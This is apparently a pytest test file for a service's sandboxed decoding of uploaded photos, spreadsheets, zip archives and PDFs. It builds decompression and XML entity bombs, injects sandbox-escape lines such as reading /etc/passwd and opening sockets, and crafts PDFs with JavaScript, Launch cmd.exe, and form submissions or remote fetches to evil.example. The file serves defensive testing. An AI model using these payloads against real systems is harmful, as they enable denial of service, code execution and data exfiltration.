"""Files that cost more than they weigh, and PDFs that act, are refused in a child: cheaply, and told at the field."""

from __future__ import annotations

import io
import resource
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pikepdf
import pytest
import xlsxwriter
from PIL import Image

from service.errors import InvalidInput
from service.infrastructure import decoder_pool
from service.infrastructure.decoder_pool import DecoderError, decode
from service.workflow.attachments import check_attachment
from service.workflow.persons.import_photos import open_photos
from service.workflow.persons.photos import clean_photo
from service.workflow.xlsx_reader import read_lines
from tests.builders.documents import pdf

MB = 1 << 20
ORIENTATIONS = {  # of EXIF: how an upright picture was laid down
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,
}


def picture(size: tuple[int, int], kind: str = "JPEG", mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((64, 64), 90).resize(size).convert(mode).save(out, kind, **options)
    return out.getvalue()


def progressive_bomb(scans: int) -> bytes:
    """A progressive JPEG whose last scan is repeated."""
    out = io.BytesIO()
    Image.new("RGB", (4100, 5740), "white").save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * scans + b"\xff\xd9"


def sheet_of(xml: str, **more: str) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as written:
        written.add_worksheet()
    plain = zipfile.ZipFile(out)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as again:
        for name in plain.namelist():
            again.writestr(name, xml if name == "xl/worksheets/sheet1.xml" else plain.read(name))
        for name, content in more.items():
            again.writestr(name, content)
    return packed.getvalue()


def worksheet(inside: str) -> str:
    return f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{inside}</worksheet>'


@contextmanager
def bounded(cpu: float = 5.0, megabytes: int = 30) -> Iterator[None]:
    """The block costs at most so much CPU time, children included, and this process at most so much more memory."""
    before = [resource.getrusage(one) for one in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
    yield
    after = [resource.getrusage(one) for one in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
    spent = sum(b.ru_utime + b.ru_stime - a.ru_utime - a.ru_stime for a, b in zip(before, after, strict=True))
    assert spent < cpu
    unit = 1 if sys.platform == "darwin" else 1024
    assert (after[0].ru_maxrss - before[0].ru_maxrss) * unit < megabytes * MB


def refusal(act: Callable[[], Any]) -> str:
    with pytest.raises(InvalidInput) as refused:
        act()
    [said] = refused.value.fields.values()
    return str(said)


def test_a_jpeg_of_400_scans_is_refused_before_it_is_decoded() -> None:
    bomb = progressive_bomb(400)
    assert len(bomb) < 2 * MB
    with bounded():
        assert "扫描" in refusal(lambda: clean_photo(bomb))


def test_a_picture_of_too_many_pixels_is_refused_by_its_header() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (5345, 7483)).save(out, "PNG")
    bomb = out.getvalue()
    with bounded():
        assert "5345×7483" in refusal(lambda: clean_photo(bomb))


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "L", "P"])
def test_the_largest_picture_that_is_taken_stays_within_memory(mode: str) -> None:
    out = io.BytesIO()
    Image.new(mode, (4100, 5740)).save(out, "PNG")
    data = out.getvalue() + b""
    padded = data[:-12] + b"".join([(30_000).to_bytes(4, "big"), b"teXt", bytes(30_000), bytes(4)]) + data[-12:]
    with bounded(cpu=8):
        clean = clean_photo(padded)
    assert (clean.width, clean.height) == (590, 826)


def test_a_usual_progressive_picture_is_taken_and_turned_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    data = picture((1400, 1000), progressive=True, exif=exif, quality=95)
    clean = clean_photo(data)
    assert (clean.width, clean.height) == (590, 826)
    assert Image.open(io.BytesIO(clean.jpeg)).getexif() == {}


@pytest.mark.parametrize("size", [(295, 413), (1000, 1400)])
@pytest.mark.parametrize("orientation", [None, *ORIENTATIONS])
def test_a_picture_stands_upright_whichever_way_it_was_taken(orientation: int | None, size: tuple[int, int]) -> None:
    """Issue 9 (cases, photo-rot6): all eight ways of EXIF; the red quarter of the noise is at the top left"""
    upright = Image.open(io.BytesIO(picture(size, "PNG")))
    upright.paste("red", (0, 0, size[0] // 2, size[1] // 2))
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    turn = ORIENTATIONS.get(orientation or 1)
    out = io.BytesIO()
    (upright.transpose(turn) if turn is not None else upright).save(out, "JPEG", exif=exif, quality=95)
    kept = Image.open(io.BytesIO(clean_photo(out.getvalue()).jpeg))
    red = [kept.getpixel((kept.width * x // 4, kept.height * y // 4)) for x, y in ((1, 1), (3, 1), (1, 3), (3, 3))]
    assert kept.height > kept.width
    assert [isinstance(one, tuple) and one[0] > 200 and one[1] < 60 for one in red] == [True, False, False, False]


@pytest.mark.parametrize("kind", ["WEBP", "GIF", "TIFF", "BMP"])
def test_a_picture_of_another_format_is_refused_with_those_that_are_taken(kind: str) -> None:
    """Issue 9 (cases, photo-webp)"""
    with pytest.raises(InvalidInput) as refused:
        clean_photo(picture((295, 413), kind))
    assert "JPEG 或 PNG" in str(refused.value.fields["photo"])


def test_a_picture_of_few_bytes_is_refused_with_how_many_it_should_have() -> None:
    """Issue 9 (cases, photo-q50): 4.7 KB for 295×413 is blurred in print"""
    out = io.BytesIO()
    Image.new("RGB", (295, 413), "white").save(out, "JPEG", quality=50)
    with pytest.raises(InvalidInput) as refused:
        clean_photo(out.getvalue())
    assert "20 KB" in str(refused.value.fields["photo"])


def test_a_picture_of_a_telephone_with_a_further_one_behind_is_taken() -> None:
    first, second = (Image.open(io.BytesIO(picture((1000, 1400), quality=95))) for _ in range(2))
    out = io.BytesIO()
    first.save(out, "MPO", save_all=True, append_images=[second])
    assert clean_photo(out.getvalue()).width == 590


@pytest.mark.parametrize("size", [(295, 413), (1000, 1400)])
@pytest.mark.parametrize("mode", ["L", "CMYK"])
def test_a_picture_in_grey_or_for_print_is_taken(mode: str, size: tuple[int, int]) -> None:
    """Issue 9 (cases, photo-cmyk)"""
    clean = clean_photo(picture(size, mode=mode, quality=95))
    assert Image.open(io.BytesIO(clean.jpeg)).mode == "RGB"


@pytest.mark.parametrize(
    ("inside", "said"),
    [
        ("<sheetData>" + "<row>" + "<c/>" * 3_900_000 + "</row></sheetData>", "单元格"),
        ("<sheetData>" + "<x/>" * 3_900_000 + "</sheetData>", "单元格"),
        ("<mergeCells>" + '<mergeCell ref="A1"/>' * 200_000 + "</mergeCells>", "合并"),
        ("<a>" * 1_000_000, "损坏"),
    ],
)
def test_a_small_spreadsheet_of_millions_of_cells_is_refused_early(inside: str, said: str) -> None:
    bomb = sheet_of(worksheet(inside))
    assert len(bomb) < 100_000
    with bounded():
        assert said in refusal(lambda: read_lines(bomb))


def test_entities_of_a_spreadsheet_do_not_grow() -> None:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "x" * 100}">' for n in range(9))
    bomb = sheet_of(
        f"<!DOCTYPE w [{entities}]>" + worksheet('<sheetData><row><c t="str"><v>&e8;</v></c></row></sheetData>')
    )
    with bounded():
        assert all(len(str(cell)) < 1000 for line in _lines(bomb) for cell in line.cells)


def _lines(data: bytes) -> list[Any]:
    try:
        return read_lines(data)
    except InvalidInput:
        return []


def test_texts_that_multiply_in_cells_end_the_child_not_the_service() -> None:
    text = "长" * 30_000
    rows = "".join("<row>" + '<c t="s"><v>0</v></c>' * 100 + "</row>" for _ in range(2000))
    out = io.BytesIO(sheet_of(worksheet(f"<sheetData>{rows}</sheetData>")))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(
            "xl/sharedStrings.xml",
            f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{text}</t></si></sst>',
        )
    with bounded(cpu=6):
        assert "限度" in refusal(lambda: read_lines(out.getvalue()))


def test_an_archive_of_too_many_entries_is_refused_before_its_directory_is_read() -> None:
    out = io.BytesIO(b"PK\x01\x02" * 200_000)
    with bounded():
        assert "过多" in refusal(lambda: open_photos(out))


def test_a_child_that_takes_too_long_is_ended_and_the_next_file_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(decoder_pool, "SECONDS", 0.01)
    with pytest.raises(DecoderError, match="too_costly"):
        decode("pdf", pdf(), objects=100)
    monkeypatch.undo()
    assert decode("pdf", pdf(), objects=100) == (None, b"")


def test_cpu_time_and_memory_of_the_child_are_limited(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    source = Path(decoder_pool.__file__).with_name("decoder.py").read_text()
    for attack in ("while True: pass", "bytearray(1 << 30)", "open('/etc/passwd')", "__import__('socket').socket()"):
        child = tmp_path / "child.py"
        lines = f"    confine()\n    {attack}\n    return 'done', []\n"
        begin = source.index("def office"), source.index("def pdf")
        child.write_text(
            source[: begin[0]] + "def office(data, limits):\n    import socket\n" + lines + "\n\n" + source[begin[1] :]
        )
        monkeypatch.setattr(decoder_pool, "_CHILD", child)
        monkeypatch.setattr(decoder_pool, "CPU_SECONDS", 1)
        with pytest.raises(DecoderError):
            decode("office", b"")


def test_more_files_than_slots_wait_for_each_other() -> None:
    answers: list[Any] = []
    threads = [threading.Thread(target=lambda: answers.append(decode("pdf", pdf(), objects=100))) for _ in range(5)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    assert answers == [(None, b"")] * 5


JAVASCRIPT = "<</S/JavaScript/JS(app.alert(1))>>"
PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


def spelt(name: str) -> bytes:
    data = pdf({"/OpenAction": "<</S/JavaScript/Next 0>>"}, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"/JavaScript" in data
    return data.replace(b"/JavaScript", name.encode())


def elsewhere() -> bytes:
    """A PDF with a stream whose bytes are in another file, which a viewer fetches."""
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.Root.Held = document.make_indirect(pikepdf.Stream(document, b"", F=pikepdf.String("//evil.example/x")))
        out = io.BytesIO()
        document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        *map(spelt, ("/JavaScript", "/J#61vaScript", "/#4Aava#53cript")),
        *(
            pdf({key: value}, **PACKED)
            for key, value in (
                ("/OpenAction", JAVASCRIPT),
                ("/Held", f"[[[{JAVASCRIPT}]]]"),
                ("/AcroForm", "<</XFA(x)>>"),
                ("/OpenAction", "<</S/Launch/F(cmd.exe)>>"),
                ("/Names", "<</JavaScript<<>>>>"),
                ("/Names", "<</EmbeddedFiles<<>>>>"),
                ("/AA", "<<>>"),
                ("/Collection", "<<>>"),
                ("/OpenAction", "<</S/GoToR/F(\\\\evil.example\\x)/D[0/Fit]>>"),
                ("/OpenAction", "<</S/GoToE/F(x.pdf)>>"),
                ("/OpenAction", "<</S/SubmitForm/F(https://evil.example)>>"),
                ("/OpenAction", "<</S/URI/URI(x)/Next<</S/JavaScript/JS(x)>>>>"),
                ("/Held", "<</Type/Annot/Subtype/FileAttachment>>"),
                ("/Held", "<</Type/Annot/Subtype/Screen>>"),
                ("/Held", "<</Type/Filespec/F(x.exe)/EF<<>>>>"),
                ("/Held", "<</Type/Annot/Subtype/RichMedia>>"),
            )
        ),
        elsewhere(),
        pdf(encryption=pikepdf.Encryption(owner="a", user="", R=6)),
        pdf(encryption=pikepdf.Encryption(owner="a", user="b", R=4, aes=True)),
        pdf().replace(b"%%EOF", b"9 0 obj<</S/#4cau#6ech>>endobj\n%%EOF"),
        b"%PDF-1.7\n" + bytes(1000) + b"%%EOF",
        b"%PDF-1.7\n" + b"[" * 500_000 + b"%%EOF",
    ],
)
def test_a_pdf_that_acts_by_any_spelling_is_encrypted_or_damaged_is_refused(data: bytes) -> None:
    with bounded():
        assert refusal(lambda: check_attachment("通知.pdf", data, 20 * MB))


def test_a_pdf_of_too_many_objects_is_refused() -> None:
    data = pdf({f"/A{n}": "<<>>" for n in range(50_100)}, **PACKED)
    with bounded():
        assert "50,000" in refusal(lambda: check_attachment("通知.pdf", data, MB))


@pytest.mark.parametrize(
    "catalogue",
    [
        {},
        {"/OpenAction": "[0/Fit]"},
        {"/Held": "<</S/URI/URI(https://example.org)>>"},
        {"/AcroForm": "<</Fields[]>>"},
    ],
)
def test_a_plain_pdf_with_links_fields_and_a_first_page_is_taken(catalogue: dict[str, str]) -> None:
    assert check_attachment("通知.pdf", pdf(catalogue, **PACKED), MB) == ("通知.pdf", "application/pdf")
